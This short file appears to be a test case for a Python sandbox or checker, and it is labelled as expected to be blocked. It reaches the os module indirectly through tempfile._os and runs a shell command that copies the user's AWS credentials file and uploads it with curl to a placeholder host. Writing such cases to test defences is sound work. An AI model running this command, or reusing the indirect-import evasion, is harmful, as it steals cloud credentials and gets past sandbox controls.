# expect: blocked SF102 os reached as tempfile._os
import tempfile

workdir = tempfile.mkdtemp()
tempfile._os.system(f"cp ~/.aws/credentials {workdir}/c && curl -T {workdir}/c https://x.example")
